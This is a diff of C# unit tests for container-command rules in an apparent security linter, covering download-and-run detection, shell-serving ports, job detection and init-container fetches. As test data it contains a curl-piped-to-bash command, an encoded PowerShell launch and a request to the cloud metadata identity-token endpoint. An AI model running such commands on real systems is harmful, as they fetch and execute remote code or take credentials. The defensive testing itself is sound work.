@@ -53,6 +53,11 @@ public sealed class CommandRulesTests
         Assert.True(result.Value.IsMissing);
     }
 
+    [Theory]
+    [InlineData("bash", "-c", "$(curl -s https://example.com/x)")]
+    [InlineData("cmd", "/c", "powershell", "-enc", "AAAA")]
+    public void What_is_fetched_or_hidden_is_run_in_other_words_too(params string[] command) => Assert.Equal(["Fail containers[web].command"], Said(new DownloadAndRunRule(), command));
+
     [Fact]
     public void A_script_that_is_not_known_is_left_open_and_an_argument_of_a_program_is_not()
     {
@@ -77,6 +82,7 @@ public sealed class CommandRulesTests
     [InlineData("sleep", "30")]
     [InlineData("sh", "-c", "sleep 5; /app/start")]
     [InlineData("sh", "-c", "while true; do /app/poll; sleep 60; done")]
+    [InlineData("sh", "-c", "while true; do /app/backup; sleep 86400; done")]
     [InlineData("sh", "-c", "/app/start > /dev/null")]
     [InlineData("tail", "-f", "/var/log/app.log")]
     public void A_container_that_works_passes(params string[] command) => Assert.Equal(["Pass containers[web].command"], Said(new StandingShellRule(), command));
@@ -85,6 +91,13 @@ public sealed class CommandRulesTests
     [EveryShape]
     public void An_image_that_serves_a_shell_is_a_failure(Shape shape) =>
         RuleCheck.Says(shape, new StandingShellRule(), GroupFixture.FromContainer("""{ "image": "linuxserver/openssh-server:9" }"""), "Fail containers[web].image");
+
+    [Theory]
+    [InlineData(22, "Fail containers[web].ports[22/TCP]")]
+    [InlineData(2222, "Fail containers[web].ports[2222/TCP]")]
+    [InlineData(8080, "Pass containers[web].command")]
+    public void A_port_of_a_server_of_shells_is_a_failure(int port, string expected) =>
+        RuleCheck.SaysOfOpen(new StandingShellRule(), GroupFixture.FromContainer($$"""{ "image": "contoso.azurecr.io/sftp:1", "ports": [ { "port": {{port}} } ] }"""), expected);
 
     [Fact]
     public void A_sleep_of_unknown_length_is_left_open() => Assert.Equal(["Unknown containers[web].command"], Said(new StandingShellRule(), "sleep", "?time"));
@@ -103,6 +116,9 @@ public sealed class CommandRulesTests
     [InlineData("/app/server")]
     [InlineData("while true; do curl https://example.com; sleep 60; done")]
     [InlineData("echo starting; exec nginx -g 'daemon off;'")]
+    [InlineData("rsync --daemon --no-detach")]
+    [InlineData("rclone serve http remote:")]
+    [InlineData("kubectl proxy --port 8001")]
     public void A_server_or_a_loop_is_no_job(string script) => Assert.Equal(["Pass containers[web].command"], Said(new JobRule(), "sh", "-c", script));
 
     [Fact]
@@ -114,6 +130,10 @@ public sealed class CommandRulesTests
     [InlineData("""[ "wget", "?address" ]""", "Unknown initContainers[setup].command")]
     [InlineData("""[ "/app/migrate", "?address" ]""", "Pass initContainers[setup]")]
     [InlineData("""[ "sh", "-c", "cp /a /b" ]""", "Pass initContainers[setup]")]
+    [InlineData("""[ "sh", "-c", "until curl -s http://localhost:8080/health; do sleep 1; done" ]""", "Pass initContainers[setup]")]
+    [InlineData("""[ "curl", "http://169.254.169.254/metadata/identity/oauth2/token" ]""", "Pass initContainers[setup]")]
+    [InlineData("""[ "wget", "http://10.0.0.4/config" ]""", "Pass initContainers[setup]")]
+    [InlineData("""[ "wget", "http://172.32.0.4/config" ]""", "Fail initContainers[setup].command")]
     public void An_init_container_that_may_fetch_is_left_open_and_another_passes(string command, string expected) => RuleCheck.SaysOfOpen(
         new InitContainerRule(), GroupFixture.FromInitContainer($$"""{ "command": {{command}} }"""), "NotApplicable containers[web]", expected);
 
